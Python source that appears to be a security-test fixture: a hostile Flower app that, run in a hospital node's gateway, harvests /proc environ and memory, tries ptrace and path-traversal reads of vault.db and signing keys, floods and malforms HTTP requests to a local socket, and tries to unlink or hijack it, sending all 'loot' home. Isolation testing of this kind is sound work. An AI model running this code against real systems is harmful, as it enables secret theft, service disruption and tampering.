"""A Flower app that somebody with the coordinator's rights to the SuperLink pushes to a hospital's node.

Its code travels: the test packs this very file under another name, and Flower runs it in the gateway. It
tries whatever a program can try there and sends home all that it got, each find under its attempt's name.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from flwr.app import Context, Message
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

from intraward_shared import wire
from intraward_shared.protocol import pack_parts, unpack_parts

MOST = 1 << 18
"""Bytes that are taken of any one thing."""
PTRACE_ATTACH = 16
Loot = Iterator[tuple[str, bytes]]

visit = ServerApp()
visitor = ClientApp()


@visit.main()
def send(grid: Grid, context: Context) -> None:
    """Send the orders to the one node and keep what it brings home."""
    orders, loot = (Path(str(context.run_config[name])) for name in ("orders", "loot"))
    while not (nodes := list(grid.get_node_ids())):
        time.sleep(0.3)
    sent = list(grid.push_messages([wire.request(nodes[0], wire.TRAIN, orders.read_bytes())]))
    while not (answers := list(grid.pull_messages(sent))):
        time.sleep(0.3)
    told = answers[0].error.reason if answers[0].has_error() else ""
    part = loot.with_suffix(".part")
    part.write_bytes(pack_parts({"failed": told.encode()}) if told else wire.read(answers[0]))
    part.replace(loot)


@visitor.train()
def plunder(message: Message, context: Context) -> Message:
    """Try everything; ``orders`` name files, processes and requests, so that nothing has to be guessed."""
    orders = unpack_parts(wire.read(message))
    door = Path(str(context.node_config["ward-socket"]))
    loot = {"self/user": json.dumps([os.getuid(), os.getgroups()]).encode(), "self/file": __file__.encode()}
    for part in (
        files(door.parents[1], json.loads(orders["files"])),
        processes(json.loads(orders["ward"])),
        calls(door, orders),
        vandalism(door),
    ):
        loot |= dict(part)
    return wire.reply(message, pack_parts(loot))


def attempt(name: str, act: Callable[[], bytes | str | list[str]]) -> Loot:
    """What ``act`` gets, under ``name``; nothing where it is refused."""
    with contextlib.suppress(OSError):
        got = act()
        data = "\n".join(got) if isinstance(got, list) else got
        yield name, (data.encode() if isinstance(data, str) else data)[:MOST]


def head(path: Path) -> bytes:
    """The beginning of a file."""
    with path.open("rb") as file:
        return file.read(MOST)


def names(folder: Path) -> list[str]:
    """What lies in a folder."""
    return [path.name for path in folder.iterdir()]


def files(home: Path, named: list[str]) -> Loot:
    """The site's folder: by listing, and by the names that it is known to hold."""
    for folder in (home.parent, home, *(home / name for name in named)):
        yield from attempt(f"list/{folder}", lambda folder=folder: names(folder))  # type: ignore[misc]
    for name in named:
        yield from attempt(f"read/{name}", lambda name=name: head(home / name))  # type: ignore[misc]
        yield from attempt(f"read/run/../{name}", lambda name=name: head(home / "run" / ".." / name))  # type: ignore[misc]
    for place, _, inside in os.walk(home):
        for name in inside:
            yield from attempt(f"walk/{place}/{name}", lambda p=Path(place, name): head(p))  # type: ignore[misc]


def processes(ward: int) -> Loot:
    """Every process's secrets by /proc, and the ward's memory by ptrace."""
    for entry in Path("/proc").iterdir():
        if entry.name.isdecimal():
            for what in ("environ", "cmdline", "maps", "mem"):
                yield from attempt(f"proc/{entry.name}/{what}", lambda p=entry / what: head(p))  # type: ignore[misc]
            for what in ("fd", "map_files", "root", "cwd"):
                yield from attempt(f"proc/{entry.name}/{what}", lambda p=entry / what: names(p))  # type: ignore[misc]
    if ctypes.CDLL(None).ptrace(PTRACE_ATTACH, ward, 0, 0) == 0:
        yield "proc/ptrace", b"attached"


def calls(door: Path, orders: dict[str, bytes]) -> Loot:
    """The ward's socket: every route, every request, and far too much."""
    for method, path in (
        ("GET", "/describe"),
        ("GET", "/"),
        ("GET", "/docs"),
        ("GET", "/openapi.json"),
        ("GET", "/status"),
        ("GET", "/execute"),
        ("POST", "/describe"),
        ("PUT", "/execute"),
        ("DELETE", "/execute"),
        ("GET", "/../vault.db"),
        ("GET", "/describe/../keys/signing.key"),
        ("TRACE", "/describe"),
    ):
        yield f"call/{method} {path}", call(door, method, path, b"")
    for name, body in orders.items():
        if name.startswith("request/"):
            yield f"call/{name}", call(door, "POST", "/execute", body)
    yield "call/declared", call(door, "POST", "/execute", b"x" * 1000, length=1 << 40)
    yield "call/header", call(door, "GET", f"/describe?{'x' * 200_000}", b"")
    yield "call/crowd", crowd(door)


def call(door: Path, method: str, path: str, body: bytes, length: int | None = None) -> bytes:
    """One HTTP request by hand; the raw answer, or why there was none."""
    lines = f"{method} {path} HTTP/1.1\r\nHost: ward\r\nConnection: close\r\nContent-Length: "
    sent = f"{lines}{len(body) if length is None else length}\r\n\r\n".encode() + body
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as made:
        made.settimeout(120)
        answer = b""
        try:
            made.connect(str(door))
            with contextlib.suppress(BrokenPipeError):  # it was refused before all of it was sent
                made.sendall(sent)
            while chunk := made.recv(1 << 16):
                answer += chunk
        except OSError as error:
            return answer or type(error).__name__.encode()
    return answer


def crowd(door: Path) -> bytes:
    """Many who begin to speak and never end, then one who asks."""
    with contextlib.ExitStack() as stack:
        for _ in range(12):
            made = stack.enter_context(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
            with contextlib.suppress(OSError):
                made.connect(str(door))
                made.sendall(b"POST /execute HTTP/1.1\r\nHost: ward\r\nContent-Length: 9\r\n\r\n")
        time.sleep(0.5)
        return call(door, "GET", "/describe", b"")


def vandalism(door: Path) -> Loot:
    """Take the ward's place, or leave something behind."""
    yield from attempt("write/home", lambda: str(Path(door.parents[1], "left").write_bytes(b"x")))
    yield from attempt("write/run", lambda: str((door.parent / "left").write_bytes(b"x")))
    yield from attempt("write/gateway", lambda: str((door.parents[1] / "gateway" / "left").write_bytes(b"x")))
    yield from attempt("write/unlink", lambda: done(door.unlink))
    yield from attempt("write/rename", lambda: str(door.rename(door.with_name("mine.sock"))))
    yield from attempt("write/mode", lambda: done(door.chmod, 0o666))


def done(act: Callable[..., object], *arguments: object) -> str:
    """That ``act`` was not refused."""
    act(*arguments)
    return "done"
